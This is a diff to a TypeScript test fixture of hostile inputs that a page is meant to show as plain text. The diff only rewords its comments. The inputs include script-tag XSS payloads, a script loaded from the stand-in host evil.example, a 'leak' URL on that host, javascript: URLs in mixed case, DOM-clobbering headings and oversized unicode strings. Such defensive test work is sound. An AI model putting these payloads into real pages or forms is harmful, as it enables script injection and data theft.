@@ -1,13 +1,13 @@
-/** Hostile texts: what somebody would write who wants a page to run a script, ask a foreign server or show a lie. */
+/** Hostile texts that try to make a page run a script, contact a foreign server or show a lie. */
 
-/** Whatever is run sets this on the window, or asks this host for something. */
+/** A payload that runs sets this on the window, or requests something from this host. */
 export const flag = "hostileRan";
 const foreign = "evil.example";
 
 const run = `window.${flag}=1`;
 const leak = `https://${foreign}/leak`;
 
-/** Each begins with a tag, which is to be read as text. */
+/** Each begins with a tag, which must be shown as text. */
 export const tags: readonly string[] = [
   `<script>${run}</script>`,
   `<SCRIPT SRC=//${foreign}/x.js></SCRIPT>`,
@@ -91,7 +91,7 @@ const clobbering = [
   `## page\n\n## constructor\n\n## __proto__\n\n## turn-1`,
 ];
 
-/** Every spelling of an address that is no address. */
+/** Addresses with a forbidden scheme, in every spelling. */
 const addresses = [
   `javascript:${run}`,
   `JaVaScRiPt:${run}`,
@@ -178,7 +178,7 @@ const unicode = [
   "\u0CCE\u{1F9D1}\u200D\u{1F91D}\u200D\u{1F9D1}".repeat(300),
 ];
 
-/** All that fit into a line or a few; each is a text on its own. */
+/** All payloads of one or a few lines, each a text of its own. */
 export const payloads: readonly string[] = [
   ...tags,
   ...clobbering,
@@ -188,7 +188,7 @@ export const payloads: readonly string[] = [
   ...unicode,
 ];
 
-/** What is only large. */
+/** Texts that are merely large. */
 export const large: readonly string[] = [
   "x".repeat(1_000_000),
   `|${"a|".repeat(2_000)}\n|${"-|".repeat(2_000)}\n|${"b|".repeat(2_000)}`,
